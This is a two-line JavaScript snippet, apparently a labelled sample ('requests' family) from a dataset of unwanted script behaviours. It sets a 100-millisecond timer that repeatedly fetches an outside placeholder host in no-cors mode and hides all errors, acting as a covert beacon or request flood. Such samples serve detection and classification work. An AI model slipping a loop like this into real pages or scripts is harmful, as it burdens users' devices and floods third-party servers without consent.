/* {"family": "requests"} */
setInterval(() => fetch('https://out.example/again', { mode: 'no-cors' }).catch(() => {}), 100);
